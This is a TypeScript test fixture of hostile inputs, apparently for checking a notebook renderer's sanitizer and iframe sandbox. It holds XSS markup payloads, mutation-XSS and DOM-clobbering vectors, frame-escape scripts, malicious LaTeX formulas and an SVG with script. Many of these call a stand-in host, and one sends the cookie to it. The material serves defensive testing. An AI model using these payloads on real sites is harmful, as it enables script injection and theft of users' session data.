/**
 * What somebody who wants to do harm puts into a notebook. `AWAY` stands for the address of a server that counts who reaches it;
 * `document.struck` is set by whatever runs.
 */

/** Runs where it can, and says where that was. */
export const strike = (how: string) =>
  `try{parent.document.struck='${how}'}catch{};document.struck='${how}';fetch('AWAY/${how}')`;

export const MARKUP: Record<string, string> = {
  'a script': `<script>${strike('script')}</script>`,
  'an image that fails': `<img src=x onerror="${strike('onerror')}">`,
  'an image from outside': `<img src="AWAY/img"><img srcset="AWAY/srcset 1x"><picture><source srcset="AWAY/source"></picture>`,
  'an SVG with a script': `<svg onload="${strike('svg')}"><script>${strike('svgscript')}</script><use href="AWAY/use"/></svg>`,
  'an animated SVG link': `<svg><a><animate attributeName=href values="javascript:${strike('animate')}" /><text y=20>x</text></a></svg>`,
  MathML: `<math><mtext><mglyph><style><img src=x onerror="${strike('mxss')}"></style></mglyph></mtext></math>`,
  'a mutation': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${strike('mutation')}">`,
  'a comment that ends': `<!--><img src=x onerror="${strike('comment')}">-->`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${strike('noscript')}>">`,
  'an inner frame': `<iframe srcdoc="<script>${strike('srcdoc')}</script>"></iframe><iframe src="AWAY/frame"></iframe>`,
  'an object': `<object data="AWAY/object"></object><embed src="AWAY/embed">`,
  'a style sheet': `<link rel=stylesheet href="AWAY/link"><style>@import url("AWAY/import"); body{background:url("AWAY/bg")}</style>`,
  'a style attribute': `<div style="background:url('AWAY/style');position:fixed;inset:0;z-index:9999">over all</div>`,
  'a base and a refresh': `<base href="AWAY/"><meta http-equiv=refresh content="0;url=AWAY/refresh">`,
  'a form': `<form action="AWAY/form"><input name=x autofocus onfocus="${strike('focus')}"><button>go</button></form>`,
  'clobbered names': `<a id=page name=body></a><img name=getElementById><form id=carrel><input name=parentNode></form>`,
  'a details that opens': `<details open ontoggle="${strike('toggle')}"><summary>x</summary></details>`,
  prefetching: `<link rel=prefetch href="AWAY/prefetch"><link rel=preconnect href="AWAY"><link rel=dns-prefetch href="AWAY">`,
  'a link to a script': `<a class=link href="javascript:${strike('href')}">click</a><a href="data:text/html,x">y</a><a href="/api/signout">z</a>`,
  video: `<video src="AWAY/video" poster="AWAY/poster" autoplay></video><audio src="AWAY/audio" autoplay></audio>`,
  'a template': `<template><img src=x onerror="${strike('template')}"></template><xmp><img src=x onerror=1></xmp>`,
};

/** Scripts in the frame try what they are not to do. */
export const FRAMED: Record<string, string> = {
  'the parent': `try { parent.document.struck = 'parent' } catch {} try { top.document.struck = 'top' } catch {}`,
  requests: `fetch('AWAY/fetch').catch(()=>{}); new Image().src='AWAY/image'; navigator.sendBeacon('AWAY/beacon'); try { new WebSocket('AWAY/ws'.replace('http','ws')) } catch {} try { new EventSource('AWAY/es') } catch {}`,
  'going away': `location.href = 'AWAY/location'`,
  'taking the page away': `try { top.location.href = 'AWAY/top' } catch {} try { parent.location = 'AWAY/parent' } catch {}`,
  windows: `try { open('AWAY/open') } catch {} document.body.insertAdjacentHTML('beforeend', '<a id=go target=_blank href=AWAY/blank>x</a>'); go.click()`,
  forms: `const f = document.createElement('form'); f.action = 'AWAY/submit'; document.body.append(f); f.submit()`,
  frames: `const i = document.createElement('iframe'); i.src = 'AWAY/inner'; document.body.append(i); const d = document.createElement('iframe'); d.srcdoc = '<img src=AWAY/deep>'; document.body.append(d)`,
  workers: `try { new Worker(URL.createObjectURL(new Blob(["fetch('AWAY/worker')"]))) } catch {}`,
  modules: `import('AWAY/module.js').catch(()=>{}); const s = document.createElement('script'); s.src = 'AWAY/script.js'; document.body.append(s)`,
  messages: `parent.postMessage({ carrelHeight: 1e9 }, '*'); parent.postMessage({ carrelHeight: { valueOf() { return 5 } } }.constructor, '*')`,
  'the cookie': `try { parent.postMessage(document.cookie, '*') } catch {} try { localStorage.x = 1 } catch {} fetch('AWAY/c?' + (() => { try { return document.cookie } catch { return '' } })()).catch(()=>{})`,
  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=AWAY/refresh">')`,
};

export const HOSTILE_FORMULAS = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{AWAY/url}',
  '\\includegraphics{AWAY/graphics}',
  '\\htmlStyle{position:fixed}{x}',
  '\\htmlClass{toolbar}{x}',
  '\\htmlData{id=page}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\rule{100000em}{100000em}',
];

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50" onload="${strike('image')}"><script>${strike('imagescript')}</script><image href="AWAY/image"/></svg>`;
